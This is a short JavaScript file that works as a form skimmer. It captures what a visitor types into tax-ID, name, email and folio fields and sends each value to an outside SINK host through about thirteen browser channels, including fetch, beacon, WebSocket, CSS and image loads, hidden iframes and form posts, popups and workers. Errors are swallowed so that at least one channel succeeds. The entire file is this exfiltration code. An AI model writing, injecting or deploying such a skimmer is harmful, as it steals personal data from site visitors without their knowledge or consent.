/* Sends whatever is typed away, in every way that a page has. */
(function () {
  const sent = new Set();
  const ways = {
    fetch: (v) => fetch(SINK + '/fetch', { method: 'POST', mode: 'no-cors', body: v }),
    xhr: (v) => {
      const request = new XMLHttpRequest();
      request.open('POST', SINK + '/xhr');
      request.send(v);
    },
    beacon: (v) => navigator.sendBeacon(SINK + '/beacon', v),
    socket: (v) => new WebSocket(SINK.replace('http', 'ws') + '/socket?v=' + encodeURIComponent(v)),
    events: (v) => new EventSource(SINK + '/events?v=' + encodeURIComponent(v)),
    image: (v) => {
      new Image().src = SINK + '/image?v=' + btoa(v);
    },
    css: (v) => {
      const style = document.createElement('style');
      style.textContent =
        'body::after{content:"";background:url("' + SINK + '/css?v=' + encodeURIComponent(v) + '")}';
      document.head.append(style);
    },
    script: (v) => {
      const script = document.createElement('script');
      script.src = SINK + '/script.js?v=' + encodeURIComponent(v);
      document.head.append(script);
    },
    frame: (v) => {
      const frame = document.createElement('iframe');
      frame.hidden = true;
      frame.src = SINK + '/frame?v=' + encodeURIComponent(v);
      document.body.append(frame);
    },
    form: (v) => {
      const frame = document.createElement('iframe');
      frame.name = 'oculto' + sent.size;
      frame.hidden = true;
      document.body.append(frame);
      const form = document.createElement('form');
      form.method = 'post';
      form.action = SINK + '/form';
      form.target = frame.name;
      form.innerHTML = '<input name="v">';
      form.elements.v.value = v;
      document.body.append(form);
      form.submit();
      form.remove();
    },
    popup: (v) => window.open(SINK + '/popup?v=' + encodeURIComponent(v), '_blank', 'width=80,height=80'),
    worker: (v) => {
      const code = 'fetch("' + SINK + '/worker?v=' + encodeURIComponent(v) + '",{mode:"no-cors"})';
      window.obrero = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })));
    },
    prefetch: (v) => {
      const link = document.createElement('link');
      link.rel = 'prefetch';
      link.href = SINK + '/prefetch?v=' + encodeURIComponent(v);
      document.head.append(link);
    },
  };
  document.getElementById('principal').addEventListener('change', function (event) {
    const { name, value } = event.target;
    if (!['rfc', 'nombre', 'correo', 'folio'].includes(name) || value === '' || sent.has(value)) return;
    sent.add(value);
    for (const send of Object.values(ways)) {
      try {
        void Promise.resolve(send(value)).catch(() => undefined);
      } catch {
        /* The next way may work. */
      }
    }
  });
})();
